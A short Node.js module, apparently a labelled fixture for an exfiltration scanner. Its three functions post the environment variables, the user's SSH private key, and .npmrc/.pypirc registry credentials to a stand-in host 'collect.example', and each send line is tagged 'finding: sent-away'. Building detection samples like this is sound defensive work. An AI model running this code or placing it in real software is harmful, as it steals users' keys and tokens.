const fs = require("fs");
const os = require("os");
const path = require("path");
const https = require("https");
const axios = require("axios");

const HOST = "collect.example";

function environment() {
  return fetch(`https://${HOST}/in`, { method: "POST", body: JSON.stringify(process.env) }); // finding: sent-away
}

async function key() {
  const body = fs.readFileSync(path.join(os.homedir(), ".ssh/id_rsa"), "utf8");
  await axios.post(`https://${HOST}/in`, { body }); // finding: sent-away
}

function registry() {
  const found = [];
  for (const name of [".npmrc", ".pypirc"]) {
    const file = path.join(os.homedir(), name);
    if (fs.existsSync(file)) found.push(fs.readFileSync(file, "utf8"));
  }
  const request = https.request({ host: HOST, method: "POST", path: "/" });
  request.write(JSON.stringify(found)); // finding: sent-away
  request.end();
}

module.exports = { environment, key, registry };
